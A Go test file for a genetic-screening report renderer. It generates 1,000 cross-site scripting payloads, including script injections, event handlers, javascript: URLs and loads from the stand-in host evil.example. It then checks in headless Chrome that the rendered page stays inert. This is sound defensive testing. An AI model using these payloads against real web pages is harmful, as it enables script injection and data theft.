package browser_test

import (
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/chromedp/chromedp"
	"github.com/google/go-cmp/cmp"

	"github.com/hlhscreen/hlhscreen/internal/fact"
	"github.com/hlhscreen/hlhscreen/internal/page"
	"github.com/hlhscreen/hlhscreen/internal/report"
)

// hostile are 1,000 different texts that try to become markup, script, style or
// an address: each way out of a context with each thing to do there. What gets
// out marks window.__hacked, asks for a picture or opens a dialog.
func hostile() []string {
	ways := []string{
		`%s`, `">%s`, `'>%s`, "`>%s", `</p>%s`, `</td></tr></table>%s`, `</title>%s`, `</style>%s`, `</script>%s`, `</textarea>%s`, `</desc></svg>%s`, `</details></summary>%s`, `--><!-- -->%s`, `]]>%s<![CDATA[`, `<!--%s-->`, `<%%= %s %%>`,
		`</dd></dl></article></section></main>%s`, `<noscript>%s</noscript>`, `<template>%s</template>`, `<math><mtext></p>%s`, `<svg><desc>%s`, "\x00%s", "\u202e%s\u202c", "\ufeff%s\u2028", "\x1b[2J%s", "\xff\xfe%s", "%%3Cb%%3E%s", `&lt;b&gt;%s`, `<b title="&quot;>%s`, `\u003cb\u003e%s`, `c.1A>G %s`, `p.(Gly1Ser)%s`, `PMID %s`,
	}
	deeds := []string{
		`<script>window.__hacked=1</script>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror="window.__hacked=1">`, `<img src=https://evil.example/a.png>`, `<svg onload=window.__hacked=1>`, `<svg><script>window.__hacked=1</script></svg>`, `<body onload=alert(1)>`,
		`<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe>`, `<iframe src=javascript:parent.__hacked=1></iframe>`, `<object data=//evil.example/o></object>`, `<embed src=//evil.example/e>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<link rel=stylesheet href=//evil.example/s.css>`, `<style>*{background:url(//evil.example/b)}</style>`, `<input autofocus onfocus=window.__hacked=1>`, `<details open ontoggle=window.__hacked=1>`, `<video><source onerror=window.__hacked=1></video>`, `<a href=javascript:window.__hacked=1>x</a>`, `<form action=//evil.example><button>x</button></form>`,
		` onmouseover=window.__hacked=1 style=position:fixed;inset:0 x="`, `" autofocus onfocus="window.__hacked=1`, `";}@import url(//evil.example/i.css);{"`, `"}body{background:url(//evil.example/c)}@page{x:"`, `\22 ;} * { background: url(//evil.example/d) }`, `"};window.__hacked=1;//`, `{{template "out" .}}`, `${window.__hacked=1}`, `javascript:window.__hacked=1`, `data:text/html,<script>opener.__hacked=1</script>`,
	}
	var out []string
	for i, w := range ways {
		for j, d := range deeds {
			if s := fmt.Sprintf(w, d); (i*len(deeds)+j)%97 == 0 {
				out = append(out, strings.Repeat(s+" ", 40)) // very long
			} else {
				out = append(out, s)
			}
		}
	}
	for i := 0; len(out) < 1000; i++ {
		out = append(out, fmt.Sprintf("%c<b id=h%d onclick=alert(%d)>%c", rune(0x2028+i), i, i, rune(0xff1c+i)))
	}
	return out[:1000]
}

// harmless has the length and the letters of a text, and no sign that means
// anything to HTML, CSS or JavaScript.
func harmless(s string) string {
	return strings.Map(func(r rune) rune {
		if r < unicode.MaxASCII && (unicode.IsLetter(r) || unicode.IsDigit(r)) || r == ' ' {
			return r
		}
		return 'a' + r%26
	}, s)
}

// shown is the text as the page shows it: lines and tabs are blanks, and what
// acts unseen is a mark.
func shown(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case strings.ContainsRune("\n\t\r", r):
			return ' '
		case unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Co):
			return unicode.ReplacementChar
		}
		return r
	}, s)
}

// chosen are the words of the contract that choose a branch of the page.
var chosen = map[string]string{"Result": "POSITIVE", "Status": "met", "Relation": "trans", "Build": "GRCh38", "Counts": "pathogenic", "State": "flagged"}

// each is how many texts share a sample, in turn, field by field.
const each = 5

// filled is a report that has a hostile text in every place for text, and the
// texts of each sample once more as its limits. Every other sample keeps the
// words of the contract that choose a branch.
func filled(texts []string) *report.Report {
	r := &report.Report{}
	fill(reflect.ValueOf(&r.Run).Elem(), "", turns(texts), 20, false)
	for i := 0; i < len(texts); i += each {
		var s report.Sample
		own := texts[i : i+each]
		fill(reflect.ValueOf(&s).Elem(), "", turns(own), 1, i/each%2 == 0)
		s.ID, s.Limits = own[i/each%each], own
		s.Genes[0].Symbol, s.Verdict.Gene, s.Variants[0].Gene, s.Structural[0].Gene = s.ID, s.ID, s.ID, s.ID // what is found is drawn
		s.Genes[0].Hypotheses[0].Alleles[0] = s.Variants[0].HGVSG
		s.Variants = append(s.Variants, s.Variants[0])
		s.Variants[0].Reported, s.Variants[1].Reported = true, false
		r.Samples = append(r.Samples, s)
	}
	return r
}

// turns gives the texts one after the other, again and again.
func turns(texts []string) func() string {
	n := 0
	return func() string { n++; return texts[n%len(texts)] }
}

func fill(v reflect.Value, name string, next func() string, items int, contract bool) {
	switch v.Kind() {
	case reflect.String:
		if word := chosen[name]; contract && word != "" {
			v.SetString(word)
			return
		}
		v.SetString(next())
	case reflect.Int, reflect.Int64:
		v.SetInt(7)
	case reflect.Float64:
		v.SetFloat(0.25)
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Interface:
		v.Set(reflect.ValueOf([]any{next(), map[string]any{next(): next()}}))
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		fill(v.Elem(), name, next, items, contract)
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), items, items))
		for i := range items {
			fill(v.Index(i), name, next, items, contract)
		}
	case reflect.Map:
		v.Set(reflect.MakeMap(v.Type()))
		for range items {
			key, value := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
			fill(key, name, next, items, contract)
			fill(value, name, next, items, contract)
			v.SetMapIndex(key, value)
		}
	case reflect.Struct:
		switch v.Interface().(type) {
		case time.Time:
		case fact.Fact[int]:
			v.Set(reflect.ValueOf(fact.Of(17)))
		case fact.Fact[float64]:
			v.Set(reflect.ValueOf(fact.Of(0.5)))
		case fact.Fact[bool]:
			v.Set(reflect.ValueOf(fact.Of(true)))
		case fact.Fact[string]:
			v.Set(reflect.ValueOf(fact.Of(next())))
		default:
			for i := range v.NumField() {
				fill(v.Field(i), v.Type().Field(i).Name, next, items, contract)
			}
		}
	}
}

// whole is what the browser made of a page.
type whole struct {
	Count  int      // elements
	Sum    int      // of each element with the names of its attributes, in order
	Rules  []string // the kind of each style rule, and how many declarations it has
	Bad    []string // addresses and styles that the template does not write
	Hacked bool
	Limits []string // of the samples, as shown
	Names  []string // each sample's heading
}

// tags are the elements with the names of their attributes. Their sum (FNV-1a)
// is compared first: the list is long.
const tags = `[...document.querySelectorAll("*")].map(e => e.localName + " " + [...e.attributes].map(a => a.name).sort().join(" "))`

const examine = `(() => {
  const tags = ` + tags + `, bad = [], text = tags.join("\n");
  let sum = 2166136261;
  for (let i = 0; i < text.length; i++) sum = Math.imul(sum ^ text.charCodeAt(i), 16777619);
  for (const e of document.querySelectorAll("*")) {
    for (const a of e.attributes) {
      if (/^(on|src|srcdoc|style|action|formaction|data$|background|poster|ping|xlink)/i.test(a.name)) bad.push(e.localName + " " + a.name + "=" + a.value);
      if (a.name === "href" && !/^(#[A-Za-z0-9_-]+|https:\/\/(www\.ncbi\.nlm\.nih\.gov\/clinvar\/variation|pubmed\.ncbi\.nlm\.nih\.gov|gnomad\.broadinstitute\.org\/variant|www\.omim\.org\/entry)\/[A-Za-z0-9?=_\/-]+)$/.test(a.value)) bad.push(e.localName + " href=" + a.value);
    }
  }
  const kinds = r => [r.constructor.name + (r.style ? r.style.length : "")].concat(r.cssRules ? [...r.cssRules].flatMap(kinds) : []);
  return {
    Count: tags.length, Sum: sum, Bad: bad, Hacked: "__hacked" in window,
    Rules: [...document.styleSheets].flatMap(s => [...s.cssRules].flatMap(kinds)),
    Limits: [...document.querySelectorAll("section.limits li")].map(e => e.textContent),
    Names: [...document.querySelectorAll(".person > h2")].map(h => h.textContent),
  };
})()`

// No text of a file becomes markup: with a hostile text in every place, the
// browser builds the elements, attributes and style rules that it builds with
// a harmless one, runs nothing and asks for nothing. The page's policy, which
// would hide a leak, is switched off.
func TestHostileTextsInTheBrowser(t *testing.T) {
	texts := hostile()
	seen := map[string]bool{}
	for _, s := range texts {
		seen[s] = true
	}
	if len(seen) != 1000 {
		t.Fatalf("%d different texts", len(seen))
	}
	w, err := words()
	if err != nil {
		t.Fatal(err)
	}
	t.Parallel()
	b := newTab(t, true)
	path := filepath.Join(t.TempDir(), "hostile.html")
	b.do(chromedp.EmulateViewport(800, 600))
	look := func(list []string) whole {
		raw, err := page.HTML(filled(list), w)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, raw, 0o600); err != nil {
			t.Fatal(err)
		}
		b.show(path)
		return ask[whole](b, examine)
	}
	const batch = 50 * each
	var plain []string
	for _, s := range texts[:batch] { // all texts give pages of one shape
		plain = append(plain, harmless(s))
	}
	want, elements := look(plain), ask[[]string](b, tags)
	if want.Count < 100*batch/each || len(want.Limits) != batch {
		t.Fatalf("%d elements, %d limits: the page is not whole", want.Count, len(want.Limits))
	}
	for at := 0; at < len(texts); at += batch {
		list := texts[at : at+batch]
		got := look(list)
		if got.Sum != want.Sum || got.Count != want.Count {
			t.Errorf("texts from %d: the elements differ (-harmless +hostile):\n%.2000s", at, cmp.Diff(elements, ask[[]string](b, tags)))
		}
		if diff := cmp.Diff(want.Rules, got.Rules); diff != "" {
			t.Errorf("texts from %d: the style rules differ (-harmless +hostile):\n%.2000s", at, diff)
		}
		if got.Hacked || len(got.Bad) > 0 {
			t.Errorf("texts from %d: a script ran: %t; written into the page: %.300q", at, got.Hacked, got.Bad)
		}
		if len(got.Limits) != batch || len(got.Names) != batch/each {
			t.Fatalf("texts from %d: %d limits, %d names", at, len(got.Limits), len(got.Names))
		}
		for i, s := range list {
			if got.Limits[i] != shown(s) {
				t.Errorf("%.99q is shown as %.99q", s, got.Limits[i])
			}
			if name := got.Names[i/each]; i%each == i/each%each && !strings.Contains(name, shown(s)) {
				t.Errorf("the sample %.99q is called %.99q", s, name)
			}
		}
		b.quiet()
		if t.Failed() {
			return
		}
	}
}
